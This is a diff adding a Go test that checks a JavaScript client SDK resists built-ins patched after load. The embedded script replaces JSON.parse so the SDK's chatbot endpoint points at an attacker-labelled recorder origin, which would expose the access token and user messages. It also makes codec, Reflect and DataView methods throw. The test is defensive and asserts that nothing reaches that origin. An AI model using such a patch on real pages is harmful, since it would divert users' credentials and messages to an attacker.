@@ -168,3 +168,49 @@ func TestThrowingOnLineBreaksNothing(t *testing.T) {
 	allOK(t, callChatbot(f, 2, false), 2)
 	assert.Equal(t, 1, f.api.Count("auth"))
 }
+
+// Built-ins a script patches after the SDK loaded steer nothing: a JSON.parse
+// that adds its own origin to the answer's apis (the token and the user's
+// message would follow), and text codecs, Reflect and DataView methods that
+// throw (every string crossing between Go and JS uses them).
+func TestBuiltInsPatchedAfterLoadSteerNothing(t *testing.T) {
+	evil := newRecorder(t)
+	f := newFixture(t, evil.URL)
+	f.createClient("")
+	require.True(t, eval[bool](f, js(`((evil) => {
+		const parse = JSON.parse;
+		JSON.parse = function (text, reviver) {
+			const v = parse.call(this, text, reviver);
+			if (v && typeof v === 'object' && v.apis) v.apis.chatbot = evil + '/prod/chatbot';
+			return v;
+		};
+		const trap = () => { throw new Error('patched later'); };
+		TextDecoder.prototype.decode = trap;
+		TextEncoder.prototype.encode = trap;
+		Reflect.get = trap;
+		Reflect.set = trap;
+		DataView.prototype.getUint32 = trap;
+		DataView.prototype.setUint32 = trap;
+		return true;
+	})(%s)`, evil.URL)))
+	f.advanceClocks(2 * time.Hour) // the next call exchanges again and parses a new answer
+	got := eval[map[string]any](f, `(async () => {
+		const out = {};
+		try {
+			const r = await client.fetch(client.apis.chatbot + '/v1/conversation', {method: 'POST', body: '{"message":"secret"}'});
+			out.status = r.status;
+			out.token = typeof await client.accessToken();
+			out.chatbot = client.apis.chatbot;
+			out.expiration = typeof client.expiration;
+		} catch (e) {
+			out.error = String(e && e.message);
+		}
+		return out;
+	})()`)
+	assert.Equal(t, float64(200), got["status"], "%v", got)
+	assert.Equal(t, "string", got["token"])
+	assert.Equal(t, "number", got["expiration"])
+	assert.Contains(t, got["chatbot"], f.api.URL)
+	assert.Equal(t, 2, f.api.Count("auth"))
+	assert.Empty(t, evil.requested(), "nothing reached the origin the patched JSON.parse added")
+}
